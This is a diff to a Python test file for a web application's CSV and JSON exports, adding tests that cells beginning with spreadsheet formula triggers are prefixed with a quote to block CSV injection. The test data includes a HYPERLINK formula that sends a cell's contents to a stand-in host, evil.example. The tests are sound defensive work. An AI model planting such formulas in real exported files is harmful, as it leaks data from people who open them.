@@ -139,18 +139,75 @@ def test_csv_cells_are_the_json_values_written_out(client, name):
     results = export(client, f"/{name}/", "json")
     assert len(rows) == len(results) > 25
     for row, result in zip(rows, results, strict=True):
-        assert row == {key: exports.csv_cell(value) for key, value in result.items()}
+        assert row == {key: str(exports.csv_cell(value)) for key, value in result.items()}
 
 
 def test_csv_is_rfc_4180_with_a_bom_and_crlf(client):
     text = 'He said "yes", then left;\nthe end'
     f.MeetingFactory(slug="quoted", title="Commas, quotes", description=text)
     data = streamed_body(client.get("/meetings/?format=csv"))
-    assert data.startswith(codecs.BOM_UTF8 + b"slug,title,kind,")
+    assert data.startswith(codecs.BOM_UTF8 + b'"slug","title","kind",')
     assert b'"Commas, quotes"' in data and b'"He said ""yes"", then left;\nthe end"' in data
-    assert data.endswith(b"/meetings/quoted/\r\n")
+    assert data.endswith(b'/meetings/quoted/"\r\n')
     [row] = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))
     assert row["description"] == text and row["title"] == "Commas, quotes"
+
+
+# Formulas: a text a spreadsheet program would run is quoted -------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+# (the text as stored, the cell the CSV holds): a text that begins with a formula trigger, or
+# with quotes and a trigger, gets one more quote in front; the import takes it off again.
+FORMULAS = [
+    (HYPERLINK, "'" + HYPERLINK),
+    ("+1+1", "'+1+1"),
+    ("-1+1", "'-1+1"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\n=1+1", "'\n=1+1"),
+    ("'=1+1", "''=1+1"),
+    ("''-1", "'''-1"),
+]
+NOT_FORMULAS = ["'quoted'", "a=b", "Plan B - phase 2", "'", "1+1"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+TITLED = {
+    "partners": (f.PartnerFactory, "name"),
+    "offices": (f.OfficeFactory, "name"),
+    "agreements": (f.AgreementFactory, "title"),
+    "projects": (f.ProjectFactory, "title"),
+    "meetings": (f.MeetingFactory, "title"),
+}
+
+
+@pytest.mark.parametrize(("text", "cell"), FORMULAS + [(text, text) for text in NOT_FORMULAS])
+def test_a_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_csv_not_the_json(client, text, cell):
+    f.MeetingFactory(slug="m", title=text, city=text, participants_note=text)
+    [row] = export(client, "/meetings/", "csv")
+    assert (row["title"], row["city"], row["participants_note"]) == (cell, cell, cell)
+    [result] = export(client, "/meetings/", "json")
+    assert (result["title"], result["city"], result["participants_note"]) == (text, text, text)
+
+
+@pytest.mark.parametrize("name", LIST_VIEWS)
+def test_no_cell_of_any_csv_export_begins_with_a_formula_trigger(client, name):
+    factory, field = TITLED[name]
+    factory(**{field: HYPERLINK})
+    data = streamed_body(client.get(f"/{name}/?format=csv"))
+    assert b'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"' in data
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+    assert "'" + HYPERLINK in cells
+    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
+
+
+def test_a_many_valued_cell_is_quoted_by_its_first_value_and_a_number_stays_a_bare_number(client):
+    f.PartnerFactory(slug="p", name="-175", acronym="", member_states=175, other_names="=cmd\n+other")
+    data = streamed_body(client.get("/partners/?format=csv"))
+    assert b',"\'-175",' in data and b",175," in data  # text in quotes, the number bare
+    [row] = parse_csv(data)
+    assert (row["name"], row["other_names"], row["member_states"]) == ("'-175", "'=cmd; +other", "175")
+    [result] = export(client, "/partners/", "json")
+    assert (result["name"], result["other_names"], result["member_states"]) == ("-175", ["=cmd", "+other"], 175)
 
 
 # Drafts appear nowhere ------------------------------------------------------------------------
